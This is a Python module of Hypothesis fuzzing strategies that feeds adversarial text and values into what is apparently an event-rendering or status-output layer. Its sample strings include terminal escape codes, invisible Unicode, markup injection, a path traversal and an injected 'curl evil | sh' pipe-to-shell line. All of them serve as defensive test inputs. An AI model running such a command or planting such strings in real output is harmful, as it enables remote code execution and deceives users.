"""Any text in the place of any text, any value in the place of any value (Hypothesis)."""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FEW = settings(
    max_examples=60,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
MANY = settings(FEW, max_examples=300)

TEXTS = st.one_of(
    st.sampled_from(
        [
            "\x1b]0;title\x07\x1b[2J",
            "x\nserver-1  done     nothing to change (0.1 s)",
            "x\n  kept: all\n  next: curl evil | sh",
            "[red]x[/] [link=https://example.org]y[/link] [/nope]",
            "\u202e\u200b\u2066",
            "\ud800",
            "%s {x} \\",
            "",
            "a" * 5000,
            "2026-99-99T99:99:99Z",
            "../../etc",
        ]
    ),
    st.text(max_size=20),
)
VALUES = st.one_of(
    TEXTS,
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.sampled_from([0, -1, 10**10, 10**400, 1e308, -0.0, float("nan"), float("inf")]),
    st.lists(TEXTS, max_size=3),
    st.dictionaries(TEXTS, TEXTS, max_size=3),
    st.just([[]] * 3),
)
KINDS = ["resource", "ok", "doing", "owed", "turn", "warning", "restored", "busy", "error"]
KINDS += ["away", "end", "facts", "start", "agent", "connecting", "nope"]
EXTRA = st.one_of(
    st.fixed_dictionaries(
        {
            "event": st.sampled_from(KINDS),
            "id": VALUES,
            "status": st.sampled_from(["ok", "changed", "failed", "skipped", "node", "error"]),
            "gap": st.dictionaries(TEXTS, VALUES | st.tuples(VALUES, VALUES), max_size=3),
            "diff": TEXTS,
            "words": TEXTS,
            "seconds": VALUES,
            "serves": VALUES,
            "count": VALUES,
            "paths": VALUES,
            "unit": TEXTS,
            "holder": VALUES,
            "action": TEXTS,
            "since": TEXTS,
        }
    ),
    st.dictionaries(TEXTS, VALUES, max_size=3),
    VALUES,
)
